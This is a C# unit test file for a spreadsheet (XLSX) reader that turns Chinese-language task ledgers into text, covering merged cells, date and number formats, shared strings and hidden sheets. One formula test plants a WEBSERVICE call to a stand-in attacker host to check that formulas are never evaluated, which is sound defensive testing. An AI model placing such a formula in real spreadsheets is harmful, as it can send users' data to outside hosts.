using PlanTracker.Documents.Blocks;
using static PlanTracker.Documents.Tests.Readers.OfficeFiles;

namespace PlanTracker.Documents.Tests.Readers;

public sealed class XlsxReaderTests
{
    private static string C(string place, string words) => $"""<c r="{place}" t="inlineStr"><is><t>{words}</t></is></c>""";

    private static string Line(int row, params string[] cells) => $"""<row r="{row}">{string.Concat(cells)}</row>""";

    private static byte[] One(string rows, string merges = "", string? styles = null, string? strings = null, string properties = "") =>
        Xlsx([("Sheet1", "visible", $"""<dimension ref="A1:XFD1048576"/><sheetData>{rows}</sheetData>{merges}""")], styles, strings, properties);

    [Fact]
    public void Title_lines_stand_above_the_table_and_empty_rows_and_columns_around_it_are_left_out()
    {
        var document = Read.Document(One(
            Line(3, C("B3", "2026年任务台账"))
            + Line(4, C("B4", "填报单位：县府办"), C("D4", "单位：项"))
            + Line(6, C("B6", "序号"), C("C6", "任务"), C("D6", "责任单位"))
            + Line(7, """<c r="B7"><v>1</v></c>""", C("C7", "甲"), C("D7", "县司法局")),
            """<mergeCells><mergeCell ref="B3:D3"/></mergeCells>"""));

        Assert.Equal(["2026年任务台账", "填报单位：县府办  单位：项"], Read.Paragraphs(document));
        Assert.True(document.Blocks.OfType<Paragraph>().First().Centred);
        Assert.Equal(["序号 | 任务 | 责任单位", "1 | 甲 | 县司法局"], Read.Rows(document));
    }

    [Fact]
    public void Merged_cells_show_the_words_of_their_first_cell_once()
    {
        var document = Read.Document(One(
            Line(1, C("A1", "类别"), C("B1", "任务"), C("C1", "分工"), C("D1", "隐藏"))
            + Line(2, C("A2", "一、民生"), C("B2", "甲"), C("C2", "县司法局"), C("D2", "县财政局"))
            + Line(3, C("A3", "看不见"), C("B3", "乙"), C("C3", "县民政局"))
            + Line(4, C("A4", "合计")),
            """<mergeCells><mergeCell ref="C1:D1"/><mergeCell ref="A2:A3"/><mergeCell ref="A4:D4"/><mergeCell ref="zz"/></mergeCells>"""));

        Assert.Equal(["类别 | 任务 | 分工×2", "一、民生 | 甲 | 县司法局 | 县财政局", "^一、民生 | 乙 | 县民政局 | ", "合计×4"], Read.Rows(document));
    }

    [Theory]
    [InlineData("yyyy/m/d", "46356", "2026-11-30")]
    [InlineData("yyyy&quot;年&quot;m&quot;月&quot;d&quot;日&quot;", "46356", "2026-11-30")]
    [InlineData("m月d日", "46356", "2026-11-30")]
    [InlineData("[$-804]yyyy年m月d日;@", "46356", "2026-11-30")]
    [InlineData("yyyy/m/d h:mm", "46157.39583", "2026-05-15")]
    [InlineData("yyyy年m月", "46174", "2026年6月")]
    [InlineData("h:mm", "0.5", "12:00")]
    [InlineData("0%", "0.95", "95%")]
    [InlineData("0.0%", "0.985", "98.5%")]
    [InlineData("0.00", "3", "3.00")]
    [InlineData("General", "0.28999999999999998", "0.29")]
    [InlineData("General", "1200", "1200")]
    [InlineData("yyyy/m/d", "99999999", "99999999")]
    public void A_number_reads_as_its_cell_shows_it(string format, string value, string shown)
    {
        var styles = $"""<numFmts><numFmt numFmtId="170" formatCode="{format}"/></numFmts>"""
            + """<cellXfs><xf numFmtId="0"/><xf numFmtId="170"/></cellXfs>""";
        var document = Read.Document(One(
            Line(1, C("A1", "a"), C("B1", "b"), C("C1", "c"))
            + Line(2, $"""<c r="A2" s="1"><v>{value}</v></c>"""), styles: styles));
        Assert.Equal($"{shown} |  | ", Read.Rows(document)[1]);
    }

    [Theory]
    [InlineData(14, "", "2026-11-30")]
    [InlineData(31, "", "2026-11-30")]
    [InlineData(57, "", "2026年11月")]
    [InlineData(14, """<workbookPr date1904="1"/>""", "2030-12-01")]
    public void Built_in_date_formats_are_known_and_so_is_the_other_calendar(int format, string properties, string shown)
    {
        var styles = $"""<cellXfs><xf numFmtId="{format}"/></cellXfs>""";
        var rows = $"""<row>{C("A1", "a")}{C("B1", "b")}</row><row><c s="0"><v>46356</v></c><c t="b"><v>1</v></c></row>""";
        Assert.Equal($"{shown} | TRUE", Read.Rows(Read.Document(One(rows, styles: styles, properties: properties)))[1]);
    }

    [Fact]
    public void A_formula_counts_by_its_last_value_and_is_never_worked_out()
    {
        var rows = Line(1, C("A1", "=1+1"), C("B1", "-镇农业站"), C("C1", "c"))
            + Line(2, """<c r="A2"><f>WEBSERVICE("http://attacker.example/")</f></c>""",
                """<c r="B2" t="str"><f>A1</f><v>上次的值</v></c>""", """<c r="C2" t="e"><v>#REF!</v></c>""");
        Assert.Equal(["=1+1 | -镇农业站 | c", " | 上次的值 | "], Read.Rows(Read.Document(One(rows))));
    }

    [Fact]
    public void Shared_strings_are_joined_from_their_runs_without_readings()
    {
        const string strings = "<si><t>甲</t></si><si><r><t>县</t></r><rPh><t>xian</t></rPh><r><t xml:space=\"preserve\">司法局_x000D_\n县财政局</t></r></si>";
        var rows = """<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="s"><v>99</v></c></row>""";
        Assert.Equal(["甲 | 县司法局\n县财政局"], Read.Rows(Read.Document(One(rows, strings: strings))));
    }

    [Fact]
    public void Of_several_sheets_those_without_a_title_are_named_and_hidden_ones_are_not_read()
    {
        var titled = Line(1, C("A1", "填表说明")) + Line(2, C("A2", "丁"), C("B2", "戊"));
        string Rows(string word) => $"""<sheetData><row r="1">{C("A1", word)}{C("B1", "乙")}</row></sheetData>""";
        var document = Read.Document(Xlsx(
            [("台账", "visible", Rows("甲")), ("旧表", "hidden", Rows("旧")), ("空表", "visible", "<sheetData/>"), ("附表", "visible", Rows("丙")),
            ("Sheet5", "visible", $"<sheetData>{titled}</sheetData>")]));

        Assert.Equal(["台账", "附表", "填表说明"], Read.Paragraphs(document));
        Assert.Equal("台账\n甲\t乙\n附表\n丙\t乙\n填表说明\n丁\t戊", document.Text);
    }
}
